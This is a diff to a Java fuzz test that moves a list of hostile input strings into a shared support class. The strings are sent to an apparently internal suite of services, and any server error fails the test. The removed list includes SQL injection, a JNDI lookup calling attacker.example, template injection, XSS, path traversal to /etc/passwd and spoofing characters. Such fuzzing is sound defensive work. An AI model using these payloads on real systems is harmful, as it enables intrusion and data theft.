@@ -16,8 +16,6 @@ import com.fasterxml.jackson.databind.ObjectMapper;
 import com.fasterxml.jackson.databind.node.ArrayNode;
 import com.fasterxml.jackson.databind.node.JsonNodeFactory;
 import com.fasterxml.jackson.databind.node.ObjectNode;
-import io.restassured.config.HttpClientConfig;
-import io.restassured.config.RestAssuredConfig;
 import io.restassured.response.Response;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
@@ -30,6 +28,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 import org.quicktheories.core.Gen;
 import org.quicktheories.generators.Generate;
+import org.vettedaccess.e2e.support.Hostile;
 import org.vettedaccess.e2e.support.Keycloak;
 import org.vettedaccess.e2e.support.RoleMatrix;
 import org.vettedaccess.e2e.support.RunningSuite;
@@ -48,10 +47,6 @@ class FuzzTest {
     private static final ObjectMapper JSON = new ObjectMapper();
     private static final JsonNodeFactory NODES = JsonNodeFactory.instance;
     private static final int BODIES_PER_OPERATION = 30;
-    private static final RestAssuredConfig TIMEOUTS = RestAssuredConfig.config()
-            .httpClient(HttpClientConfig.httpClientConfig()
-                    .setParam("http.connection.timeout", 5_000)
-                    .setParam("http.socket.timeout", 15_000));
 
     /** Field names the services use, so hostile values reach their validation rather than stopping at the door. */
     private static final List<String> FIELDS = List.of(
@@ -104,35 +99,9 @@ class FuzzTest {
             "termsAccepted",
             "termsVersion");
 
-    private static final List<String> NASTY = List.of(
-            "' OR '1'='1' --",
-            "\"; DROP TABLE leaves; --",
-            "${jndi:ldap://attacker.example/a}",
-            "{{7*7}}",
-            "{#for x in 1..99999}{x}{/for}",
-            "#{7*7}",
-            "<script>alert(1)</script>",
-            "\u202Egnp.exe",
-            "\u0430dmin",
-            "pa\u0443pal",
-            "\uFEFFalice",
-            "../../../../etc/passwd",
-            "%00",
-            "\u0000",
-            "\uD800",
-            "1e309",
-            "-0",
-            "NaN",
-            "2026-13-45T99:99:99Z",
-            "0000-0002-1825-009X\u0000");
-
     private static Gen<JsonNode> leaf() {
         return Generate.oneOf(
-                Generate.pick(NASTY).map(text -> (JsonNode) NODES.textNode(text)),
-                strings().allPossible().ofLengthBetween(0, 40).map(text -> (JsonNode) NODES.textNode(text)),
-                strings().betweenCodePoints(0, 0x1f).ofLengthBetween(0, 12).map(text ->
-                        (JsonNode) NODES.textNode(text)),
-                Generate.constant((JsonNode) NODES.textNode("x".repeat(300_000))),
+                Hostile.text().map(text -> (JsonNode) NODES.textNode(text)),
                 longs().all().map(n -> (JsonNode) NODES.numberNode(n)),
                 doubles().any().map(n -> (JsonNode) NODES.numberNode(n)),
                 booleans().all().map(b -> (JsonNode) NODES.booleanNode(b)),
@@ -167,7 +136,7 @@ class FuzzTest {
                 integers().between(1_000, 200_000).map(depth -> "[".repeat(depth) + "]".repeat(depth)),
                 integers().between(1_000, 50_000).map(depth -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)),
                 strings().allPossible().ofLengthBetween(0, 200),
-                Generate.pick(NASTY).map(text -> "\"" + text + "\""),
+                Generate.pick(Hostile.STRINGS).map(text -> "\"" + text + "\""),
                 longs().all().map((Long n) -> String.valueOf(n)));
     }
 
@@ -279,8 +248,9 @@ class FuzzTest {
                 for (Map<String, String> headers : headerSets) {
                     requests++;
                     try {
-                        Response response =
-                                given().config(TIMEOUTS).headers(headers).get(suite.serviceUrl(service) + path);
+                        Response response = given().config(Hostile.TIMEOUTS)
+                                .headers(headers)
+                                .get(suite.serviceUrl(service) + path);
                         if (response.statusCode() >= 500) {
                             failures.add(service + " GET " + path + " with " + headers.keySet() + ": "
                                     + response.statusCode());
@@ -299,7 +269,7 @@ class FuzzTest {
     /** Null for a refusal (4xx), {@link #ACCEPTED} for a 2xx, else what went wrong. */
     private static String send(String method, String url, String token, String body) {
         try {
-            var request = given().config(TIMEOUTS)
+            var request = given().config(Hostile.TIMEOUTS)
                     .contentType("application/json")
                     .body(body.getBytes(StandardCharsets.UTF_8));
             if (token != null) {
